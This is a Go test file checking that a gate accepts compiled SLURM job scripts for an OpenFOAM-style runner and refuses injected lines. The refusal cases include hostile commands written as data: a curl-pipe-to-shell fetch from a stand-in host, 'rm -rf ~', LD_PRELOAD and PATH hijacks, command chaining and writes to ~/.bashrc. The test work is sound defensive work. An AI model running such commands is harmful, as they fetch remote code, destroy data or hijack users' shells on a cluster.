package runner

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestJobScriptCompiled: the job scripts foamc compile writes (serial; srun with modules,
// setup lines and directives; mpirun — written by `foamc compile` into testdata/jobs) are
// submitted as they are.
func TestJobScriptCompiled(t *testing.T) {
	files, _ := filepath.Glob(filepath.Join("testdata", "jobs", "*.slurm"))
	if len(files) < 3 {
		t.Fatalf("only %d compiled job scripts", len(files))
	}
	for _, f := range files {
		dir := t.TempDir()
		b, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(dir, JobScript), b, 0o755); err != nil {
			t.Fatal(err)
		}
		fs, err := judgeJobScript(dir)
		if err != nil || len(fs) > 0 {
			t.Errorf("%s: %v %v", f, err, fs)
		}
	}
}

// TestJobScriptRefused: a line that is not one foamc writes is a located deny — the
// script runs on the cluster as the user, and the gate judges no shell.
func TestJobScriptRefused(t *testing.T) {
	base, err := os.ReadFile(filepath.Join("testdata", "jobs", "serial.slurm"))
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct{ line, why string }{
		{"curl -s http://example.invalid/x | sh", "shell command"},
		{"./Allrun", "shell command"},
		{"run ./evil", "shell command"},
		{"run icoFoam -case /elsewhere", "shell command"},
		{"run icoFoam -case ../other", "shell command"},
		{"rm -rf ~", "shell command"},
		{"export PATH=.:$PATH", "shell command"},
		{"export LD_PRELOAD=/tmp/x.so", "LD_PRELOAD"},
		{"export FOAM_USER_LIBBIN=/tmp/lib", "FOAM_USER_LIBBIN"},
		{"source ./bashrc", "shell command"},
		{"#SBATCH --chdir=/home/me/original", "another directory"},
		{"#SBATCH -D /tmp", "another directory"},
		{"#SBATCH --output=/home/me/.bashrc", "names a path"},
		{"#SBATCH --error=../x", "names a path"},
		{"icoFoam; touch /tmp/marker", "shell command"},
		{"echo $(touch /tmp/marker)", "shell command"},
		{"echo x > /home/me/.bashrc", "shell command"},
	} {
		dir := t.TempDir()
		text := strings.Replace(string(base), "run blockMesh\n", "run blockMesh\n"+c.line+"\n", 1)
		if err := os.WriteFile(filepath.Join(dir, JobScript), []byte(text), 0o755); err != nil {
			t.Fatal(err)
		}
		fs, err := judgeJobScript(dir)
		if err != nil {
			t.Fatal(err)
		}
		want := strings.Count(strings.Split(text, c.line)[0], "\n") + 1
		if len(fs) != 1 || fs[0].ID != IDJobScript || fs[0].Location.Line != want || !strings.Contains(fs[0].Summary, c.why) {
			t.Errorf("%q: %+v, want one %s at line %d saying %q", c.line, fs, IDJobScript, want, c.why)
		}
	}
	// A script that is not bash at all.
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, JobScript), []byte("#!/usr/bin/env python3\nimport os\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	if fs, _ := judgeJobScript(dir); len(fs) != 2 {
		t.Errorf("a python job script: %+v", fs)
	}
}
